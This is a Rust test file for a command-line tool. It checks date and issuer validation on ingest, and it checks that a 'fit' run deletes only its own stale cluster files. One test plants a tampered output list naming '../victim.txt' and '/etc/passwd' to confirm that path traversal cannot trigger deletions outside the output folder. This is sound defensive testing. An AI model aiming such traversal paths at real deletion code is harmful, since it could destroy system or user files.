    std::fs::write(&text, EN_TEXT.replace("Union", "Union today")).unwrap();
    for (args, needle) in [
        (&["--issuer", "X", "--date", "2025-02-30"][..], "--date '2025-02-30'"),
        (&["--issuer", "X", "--date", "2023-02-29"][..], "--date '2023-02-29'"),
        (&["--issuer", "X", "--date", "2025-04-31"][..], "--date '2025-04-31'"),
        (&["--issuer", ""][..], "--issuer is empty"),
        (&["--issuer", "   "][..], "--issuer is empty"),
        (&["--issuer", "X", "--bloc", ""][..], "--bloc is empty"),
    ] {
        let mut cmd = on_ws(&["ingest"], &ws);
        cmd.args(args).arg(&text);
        fails(cmd, 2, &[needle]);
    }
    let mut ok = on_ws(&["ingest", "--issuer", "X", "--date", "2024-02-29"], &ws);
    ok.arg(&text);
    stdout(ok);
    // The manifest's dates follow the same calendar.
    let c = corpus(Some("file,issuer,date\na.txt,Russia,2025-02-30\n"), &[("a.txt", FR_TEXT.as_bytes())]);
    fails(passages_on(c.path()), 1, &["manifest.csv:2", "2025-02-30"]);
}

#[test]
fn row10_fit_removes_only_its_own_stale_cluster_files() {
    let out = tempfile::tempdir().unwrap();
    let fit = |k: &str| {
        let mut cmd = stance(&["fit", "--k", k, "--corpus"]);
        cmd.arg(seeds()).arg("--out").arg(out.path());
        stdout(bounded(cmd));
    };
    fit("8");
    let clusters = out.path().join("clusters");
    std::fs::write(clusters.join("notes.txt"), "mine").unwrap();
    std::fs::write(clusters.join("cluster_99.csv"), "mine too: not written by this fit").unwrap();
    fit("3");
    let mut names: Vec<String> =
        std::fs::read_dir(&clusters).unwrap().map(|e| e.unwrap().file_name().to_string_lossy().into_owned()).collect();
    names.sort();
    assert_eq!(names, ["cluster_00.csv", "cluster_01.csv", "cluster_02.csv", "cluster_99.csv", "notes.txt"]);
    // A tampered list cannot make fit delete anything else.
    std::fs::write(out.path().join("fit-outputs.json"), r#"["../victim.txt", "clusters/notes.txt", "/etc/passwd"]"#)
        .unwrap();
    let victim = out.path().parent().unwrap().join("victim.txt");
    let _ = std::fs::write(&victim, "x");
    fit("3");
    assert!(clusters.join("notes.txt").is_file());
    if victim.exists() {
        std::fs::remove_file(&victim).unwrap();
    } else {
        panic!("a file outside the output folder was removed");
    }
}
